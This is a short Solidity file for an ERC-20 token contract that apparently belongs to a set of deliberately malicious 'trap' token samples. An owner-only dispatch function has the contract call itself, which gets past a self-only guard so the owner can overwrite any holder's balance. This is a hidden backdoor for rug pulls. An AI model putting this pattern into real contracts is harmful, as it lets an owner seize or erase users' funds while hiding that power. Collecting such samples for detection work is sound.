// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

import "../base/TrapErc20V8.sol";

/// What only the contract itself may do, its owner has it do.
contract SelfDispatch is TrapErc20V8 {
    error OnlySelf();

    constructor() TrapErc20V8("Dispatch", "DSP", 4_444_000 ether) {}

    function dispatch(bytes4 action, address subject, uint256 value) external onlyOwner {
        (bool ok, ) = address(this).call(abi.encodeWithSelector(action, subject, value));
        require(ok);
    }

    function reset(address subject, uint256 value) external {
        if (msg.sender != address(this)) revert OnlySelf();
        _balances[subject] = value;
    }
}
